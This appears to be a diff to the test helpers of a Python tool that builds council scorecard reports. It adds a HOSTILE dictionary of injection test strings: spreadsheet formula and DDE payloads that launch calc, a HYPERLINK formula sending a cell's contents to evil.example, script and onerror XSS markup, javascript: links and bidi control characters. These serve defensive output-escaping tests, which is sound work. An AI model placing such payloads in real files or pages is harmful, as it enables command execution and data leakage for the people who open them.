@@ -184,3 +184,53 @@ def empty() -> Report:
         bullets=(),
         not_assessed=(),
     )
+
+
+def saying(words: str) -> Report:
+    """The whole report with `words` wherever a workbook, or an officer, has words of its own."""
+    whole = report()
+    *others, reviews = whole.comparisons
+    named = indicator(
+        name=words, ref=words, section=words, rag=Rag(words, None, at("L12", words)), source=at("B12", words)
+    )
+    spoken = (*others, replace(compared(named), change=replace(compared(named).change, because=words)))  # type: ignore[type-var]
+    card = replace(
+        whole.scorecard,
+        council=words,
+        files=(FileRead(words, "0" * 64, (SheetRead(words, False, 1, words),)),),
+        indicators=tuple(c.indicator for c in spoken),
+    )
+    return replace(
+        whole,
+        scorecard=card,
+        comparisons=spoken,
+        bullets=tuple(replace(b, text=words, sources=(at("C3", words),)) for b in whole.bullets),
+        not_assessed=(NotAssessed(reviews.indicator.id, words),),
+        problems=tuple(replace(p, message=words, hint=words) for p in PROBLEMS),
+    )
+
+
+HOSTILE = {
+    "a formula": "=1+1",
+    "a formula to another program": "=cmd|' /C calc'!A0",
+    "a call out": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "a sum": "+44 20 7946 0000",
+    "a function": "@SUM(1+9)*cmd|' /C calc'!A0",
+    "a full-width formula": "＝1+1",
+    "markup": "<script>alert(1)</script><img src=http://evil.example/x.png onerror=alert(1)>",
+    "an entity": "&lt;b&gt; &#x3c;i&#x3e;",
+    "a Markdown picture": "![x](http://evil.example/x.png) [y](javascript:alert(1)) <http://evil.example>",
+    "a bare link": "see www.evil.example, http://evil.example/a_b_c|d`e or mail me@evil.example",
+    "a Markdown block": "# not a heading",
+    "a list": "1. not a list",
+    "a table": "| a | b |",
+    "control characters": "a\x00b\x07c\x1b[31md\x7fe\x85f\ufffeg\x0bh",
+    "line breaks": "one\r\ntwo\n\n# three\u2028four",
+    "right to left": "مراجعات في الوقت",
+    "reordered": "83.3% \u202e%9.49\u202c \u2066x\u2069",
+    "half a character": "a\ud800b",
+    "ten thousand characters": "word " * 2000,
+    "one long word": "w" * 10_000,
+    "too long for a cell": "=1 " * 12_000,
+    "nothing": "",
+}
